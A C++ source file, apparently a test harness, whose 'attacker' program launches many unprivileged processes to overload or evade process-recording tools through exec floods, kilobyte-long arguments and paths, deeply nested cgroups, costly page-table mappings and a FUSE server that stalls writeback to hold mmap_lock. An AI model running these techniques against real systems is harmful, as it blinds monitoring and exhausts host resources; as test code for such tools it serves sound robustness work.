// Processes of an unprivileged user (by default sixty) that attack recorders.
//
//   attacker names N [UID]       each executes itself repeatedly, with new arguments each time
//   attacker pipes N [UID]       the same, with 60 KB of `echo … | a | a | … su`
//   attacker texts N [UID]       each has 4 KB of arguments and a folder with a path of 3.8 KB
//   attacker tables N [UID]      each maps the same 256 MiB to 8 GiB: page tables that take long to walk
//   attacker locked N UID        each holds its mmap_lock forever, waiting for a page that a FUSE server does not
//                                write back; needs root to mount; "denied" without permission
//   attacker short N UID         N new processes a second, each with a new name, which run for 12 s
//   attacker folders N UID       the same, each in a folder of its own whose path has 3.8 KB
//   attacker cgroups N UID       the same, each in a cgroup of its own whose path has 3.4 KB; needs root to
//                                create them; "denied" without permission
//   attacker nested N UID        each in a cgroup below 1,990 others; needs root as well
//   attacker remove 0            removes these folders and cgroups
//   attacker - WORD              a process of "names": waits a moment and executes itself
//   attacker + WORD              runs for 12 s
//   attacker = WORD              runs until it is killed
//
// Prints "ok" once all of them run; exits with all of them when its standard input is closed.

#include <algorithm>
#include <array>
#include <cerrno>
#include <charconv>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <dirent.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/fuse.h>
#include <poll.h>
#include <sched.h>
#include <string>
#include <string_view>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>
#include <vector>

namespace {

constexpr std::size_t kPage = 4096;

[[noreturn]] void die(const char* what) {
  std::perror(what);
  std::exit(1);
}

int to_number(std::string_view text) {
  int value = 0;
  std::from_chars(text.data(), text.data() + text.size(), value);
  return value;
}

void become(int uid) {
  const auto id = static_cast<uid_t>(uid);
  if (uid > 0 && (setgroups(0, nullptr) != 0 || setgid(id) != 0 || setuid(id) != 0)) die("setuid");
}

// Starts children that do `work` and then idle. Returns when every child has finished or failed its work.
template <typename Work>
void fork_all(int count, int uid, Work work) {
  std::array<int, 2> done{};
  if (pipe2(done.data(), O_CLOEXEC) != 0) die("pipe");
  for (int i = 0; i < count; ++i) {
    const pid_t pid = fork();
    if (pid < 0) die("fork");
    if (pid != 0) continue;
    close(done[0]);
    close(STDIN_FILENO);
    become(uid);
    prctl(PR_SET_PDEATHSIG, SIGKILL);  // a change of the uid clears this setting
    prctl(PR_SET_DUMPABLE, 1);
    work(i, done[1]);
    close(done[1]);
    for (;;) pause();
  }
  close(done[1]);
  char nothing = 0;
  while (read(done[0], &nothing, 1) > 0) continue;
  close(done[0]);
}

void say_ok_and_wait() {
  std::puts("ok");
  std::fflush(stdout);
  char byte = 0;
  while (read(STDIN_FILENO, &byte, 1) > 0) continue;
}

// --- names

constexpr std::size_t kArgument = 4000;

std::string random_word() {
  std::array<unsigned char, kArgument> bytes{};
  const int source = open("/dev/urandom", O_RDONLY | O_CLOEXEC);
  if (source < 0 || read(source, bytes.data(), bytes.size()) != static_cast<ssize_t>(bytes.size())) die("urandom");
  close(source);
  std::string word;
  for (const unsigned char byte : bytes) word += static_cast<char>('a' + byte % 26);
  return word;
}

[[noreturn]] void run_again() {
  usleep(200'000);
  std::string word = random_word();
  char name[] = "attacker";
  char again[] = "-";
  std::array<char*, 4> arguments{name, again, word.data(), nullptr};
  execv("/proc/self/exe", arguments.data());
  die("exec");
}

// Executes itself with arguments that are expensive to redact, and with new ones each time.
[[noreturn]] void run_pipes_again() {
  usleep(200'000);
  std::string word = random_word().substr(0, 20);
  char name[] = "echo";
  char pipe_sign[] = "|";
  char letter[] = "a";
  char last[] = "su";
  std::vector<char*> arguments{name, word.data()};
  while (arguments.size() < 30'000) {
    arguments.push_back(pipe_sign);
    arguments.push_back(letter);
  }
  arguments.insert(arguments.end(), {pipe_sign, last, nullptr});
  execv("/proc/self/exe", arguments.data());
  die("exec");
}

// --- short, folders, cgroups, nested

constexpr int kLivesSeconds = 12;
constexpr int kDepth = 1990;

// Words have only letters, because a program's normalised name omits digits.
std::string new_word(std::size_t length) {
  static std::uint64_t made = static_cast<std::uint64_t>(getpid()) << 32U;
  std::string word;
  for (std::uint64_t rest = ++made; rest > 0; rest /= 26) word += static_cast<char>('a' + rest % 26);
  word.resize(std::max(length, word.size()), 'x');
  return word;
}

void enter(const std::string& folder) {
  if (mkdir(folder.c_str(), 0777) != 0 && errno != EEXIST) return;
  static_cast<void>(!chdir(folder.c_str()));
}

// Enters the path step by step, because the complete path is too long for one call.
bool enter_all(const std::string& root, int depth, std::size_t length) {
  if (chdir(root.c_str()) != 0) return false;
  enter("attacker" + std::to_string(getpid()));
  for (int i = 0; i < depth; ++i) enter(std::string(length, 'a'));
  return true;
}

// Removes a folder with its contents; only names are read.
void remove_all(int parent, const char* name) {
  const int fd = openat(parent, name, O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
  if (fd < 0) return;
  DIR* const folder = fdopendir(fd);
  while (const dirent* entry = readdir(folder)) {
    if (entry->d_type == DT_DIR && std::strcmp(entry->d_name, ".") != 0 && std::strcmp(entry->d_name, "..") != 0)
      remove_all(fd, entry->d_name);
  }
  closedir(folder);
  unlinkat(parent, name, AT_REMOVEDIR);
}

// Removes the folders that all attackers created. Returns true if no such folder is left.
bool remove_made(const std::string& root) {
  const int fd = open(root.c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  DIR* const folder = fd < 0 ? nullptr : fdopendir(fd);
  if (folder == nullptr) return true;
  bool all = true;
  while (const dirent* entry = readdir(folder)) {
    if (entry->d_type != DT_DIR || !std::string_view(entry->d_name).starts_with("attacker")) continue;
    remove_all(fd, entry->d_name);
    all = all && faccessat(fd, entry->d_name, F_OK, 0) != 0;
  }
  closedir(folder);
  return all;
}

std::string cgroup_root() {
  const std::string v1 = "/sys/fs/cgroup/memory";
  return access(v1.c_str(), F_OK) == 0 ? v1 : "/sys/fs/cgroup";
}

// Moves this process to the cgroup that is the working directory.
bool join_cgroup() {
  const int fd = open("cgroup.procs", O_WRONLY | O_CLOEXEC);
  const bool joined = fd >= 0 && write(fd, "0", 1) == 1;
  close(fd);
  return joined;
}

enum class Place { here, folder, cgroup };

[[noreturn]] void live_briefly(Place place, int uid) {
  const std::string own = new_word(200) + std::to_string(getpid());
  if (place != Place::here) enter(own);
  if (place == Place::cgroup && !join_cgroup()) _exit(1);
  become(uid);
  prctl(PR_SET_PDEATHSIG, SIGKILL);  // a change of the uid clears it
  std::string name = new_word(6) + new_word(1) + std::string(1, static_cast<char>('a' + getpid() % 26));
  char again[] = "+";
  std::array<char*, 3> arguments{name.data(), again, nullptr};
  execv("/proc/self/exe", arguments.data());
  _exit(1);
}

void flood(int each_second, int uid, Place place) {
  const std::string root = place == Place::cgroup ? cgroup_root() : "/tmp";
  const std::size_t length = 250;
  if (place != Place::here && !enter_all(root, place == Place::cgroup ? 12 : 14, length)) {
    std::puts("denied");
    std::exit(0);
  }
  std::puts("ok");
  std::fflush(stdout);
  signal(SIGCHLD, SIG_IGN);
  pollfd closed{STDIN_FILENO, POLLIN, 0};
  for (std::uint64_t n = 0; poll(&closed, 1, 1000 / each_second) == 0; ++n) {
    new_word(1);
    if (fork() == 0) {
      prctl(PR_SET_PDEATHSIG, SIGKILL);
      live_briefly(place, uid);
    }
  }
  kill(0, SIGKILL);
}

void hold_texts(int count, int uid) {
  if (!enter_all("/tmp", 14, 250)) die("folder");
  fork_all(count, uid, [](int, int done) {
    close(done);
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    std::string word = random_word();
    char name[] = "attacker";
    char again[] = "=";
    std::array<char*, 4> arguments{name, again, word.data(), nullptr};
    execv("/proc/self/exe", arguments.data());
    die("exec");
  });
  say_ok_and_wait();
}

void nest(int count, int uid) {
  const std::string root = cgroup_root();
  if (!enter_all(root, 0, 0)) {
    std::puts("denied");
    std::exit(0);
  }
  std::array<int, 2> ready{};
  if (pipe2(ready.data(), O_CLOEXEC) != 0) die("pipe");
  for (int i = 0; i < count; ++i) {
    if (fork() != 0) continue;
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    enter("chain" + std::to_string(i));
    for (int depth = 1; depth < kDepth; ++depth) enter("a");
    if (!join_cgroup()) _exit(1);
    static_cast<void>(!chdir("/"));
    become(uid);
    prctl(PR_SET_PDEATHSIG, SIGKILL);  // a change of the uid clears this setting
    close(ready[0]);
    close(ready[1]);
    for (;;) pause();
  }
  close(ready[1]);
  char nothing = 0;
  while (read(ready[0], &nothing, 1) > 0) continue;
  say_ok_and_wait();
}

// --- tables

constexpr std::size_t kMapped = std::size_t{256} << 20U;

void* map_tables(int fd, int protection) {
  void* const at = mmap(nullptr, kMapped, protection, MAP_SHARED | MAP_POPULATE, fd, 0);
  if (at == MAP_FAILED) die("mmap");
  return at;
}

void hold_tables(int count, int uid) {
  const int fd = memfd_create("many", MFD_CLOEXEC);
  if (fd < 0 || ftruncate(fd, static_cast<off_t>(kMapped)) != 0) die("memfd");
  munmap(map_tables(fd, PROT_READ | PROT_WRITE),
         kMapped);  // the pages are cached from here on, and the kernel maps many at once
  fork_all(count, uid, [fd](int, int) {
    for (int i = 0; i < 32; ++i) map_tables(fd, PROT_READ);
  });
  say_ok_and_wait();
}

// --- locked

// Serves a folder in which every name is a one-page file that has the name's number. Answers all requests except
// writing the page back (Documentation/filesystems/fuse.rst).
class FuseServer {
 public:
  explicit FuseServer(int device) : device_(device) {}

  void answer_one() {
    const ssize_t got = read(device_, request_.data(), request_.size());
    if (got < static_cast<ssize_t>(sizeof(fuse_in_header))) return;
    fuse_in_header head{};
    std::memcpy(&head, request_.data(), sizeof head);
    const char* const body = request_.data() + sizeof head;
    switch (head.opcode) {
      case FUSE_INIT: {
        fuse_init_out init{};
        init.major = FUSE_KERNEL_VERSION;
        init.minor = FUSE_KERNEL_MINOR_VERSION;
        init.max_write = kPage;
        return reply(head, &init, sizeof init);
      }
      case FUSE_LOOKUP: {
        fuse_entry_out entry{};
        entry.nodeid = static_cast<std::uint64_t>(to_number(body)) + 2;
        entry.entry_valid = entry.attr_valid = 3600;
        entry.attr = attributes(entry.nodeid);
        return reply(head, &entry, sizeof entry);
      }
      case FUSE_GETATTR: {
        fuse_attr_out out{};
        out.attr_valid = 3600;
        out.attr = attributes(head.nodeid);
        return reply(head, &out, sizeof out);
      }
      case FUSE_OPEN: {
        const fuse_open_out out{};
        return reply(head, &out, sizeof out);
      }
      case FUSE_READ: {
        static const std::array<char, kPage> page{};
        return reply(head, page.data(), page.size());
      }
      case FUSE_WRITE:
        return;
      default:
        return reply(head, nullptr, 0, -ENOSYS);
    }
  }

 private:
  static fuse_attr attributes(std::uint64_t node) {
    fuse_attr attr{};
    attr.ino = node;
    attr.size = node == FUSE_ROOT_ID ? 0 : kPage;
    attr.mode = node == FUSE_ROOT_ID ? S_IFDIR | 0777U : S_IFREG | 0666U;
    attr.nlink = 1;
    return attr;
  }

  void reply(const fuse_in_header& head, const void* body, std::size_t size, int error = 0) {
    std::string out(sizeof(fuse_out_header) + size, '\0');
    fuse_out_header answer{};
    answer.len = static_cast<std::uint32_t>(out.size());
    answer.error = error;
    answer.unique = head.unique;
    std::memcpy(out.data(), &answer, sizeof answer);
    if (size > 0) std::memcpy(out.data() + sizeof answer, body, size);
    static_cast<void>(!write(device_, out.data(), out.size()));
  }

  int device_;
  std::array<char, 64 * 1024> request_{};
};

// Unmapping a page of a FUSE file writes it back and waits. Mapping over it does so while holding mmap_lock.
void hold_lock(const std::string& folder, int number, int done) {
  const int fd = open((folder + '/' + std::to_string(number)).c_str(), O_RDWR | O_CLOEXEC);
  if (fd < 0) die("open");
  void* const at = mmap(nullptr, kPage, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  if (at == MAP_FAILED) die("mmap");
  *static_cast<volatile char*>(at) = 1;
  close(done);
  mmap(at, kPage, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
}

void hold_locks(int count, int uid) {
  const std::string folder = "/tmp";
  const int device = open("/dev/fuse", O_RDWR | O_CLOEXEC);
  const std::string options =
      "fd=" + std::to_string(device) + ",rootmode=40000,user_id=0,group_id=0,allow_other,default_permissions";
  if (device < 0 || unshare(CLONE_NEWNS) != 0 || mount("", "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0 ||
      mount("attacker", folder.c_str(), "fuse", MS_NOSUID | MS_NODEV, options.c_str()) != 0) {
    std::puts("denied");
    std::exit(0);
  }
  const pid_t server = fork();
  if (server == 0) {
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    FuseServer fuse(device);
    for (;;) fuse.answer_one();
  }
  close(device);
  fork_all(count, uid, [&folder](int number, int done) { hold_lock(folder, number, done); });
  say_ok_and_wait();
  kill(server, SIGKILL);  // releases all waiting processes
}

}  // namespace

int main(int argc, char** argv) {
  if (argc == 2 && std::strcmp(argv[1], "+") == 0) {
    sleep(kLivesSeconds);
    return 0;
  }
  if (argc == 3 && std::strcmp(argv[1], "=") == 0) {
    for (;;) pause();
  }
  if (std::strcmp(argv[0], "echo") == 0) run_pipes_again();
  if (argc < 3) return 2;
  const std::string_view attack = argv[1];
  if (attack == "-") run_again();
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  const int count = to_number(argv[2]);
  const int uid = argc > 3 ? to_number(argv[3]) : 0;
  if (attack == "names") {
    fork_all(count, uid, [](int, int done) {
      close(done);
      run_again();
    });
    say_ok_and_wait();
  } else if (attack == "pipes") {
    fork_all(count, uid, [](int, int done) {
      close(done);
      run_pipes_again();
    });
    say_ok_and_wait();
  } else if (attack == "texts") {
    hold_texts(count, uid);
  } else if (attack == "short" || attack == "folders" || attack == "cgroups") {
    setpgid(0, 0);
    flood(count, uid, attack == "short" ? Place::here : attack == "folders" ? Place::folder : Place::cgroup);
  } else if (attack == "remove") {
    rlimit most{};
    getrlimit(RLIMIT_NOFILE, &most);
    most.rlim_cur = most.rlim_max;
    setrlimit(RLIMIT_NOFILE, &most);
    // Killed processes keep their cgroups until they have exited.
    for (int i = 0; i < 200 && !(remove_made("/tmp") && remove_made(cgroup_root())); ++i) usleep(100'000);
  } else if (attack == "nested") {
    nest(count, uid);
  } else if (attack == "tables") {
    hold_tables(count, uid);
  } else if (attack == "locked") {
    hold_locks(count, uid);
  } else {
    return 2;
  }
  return 0;
}
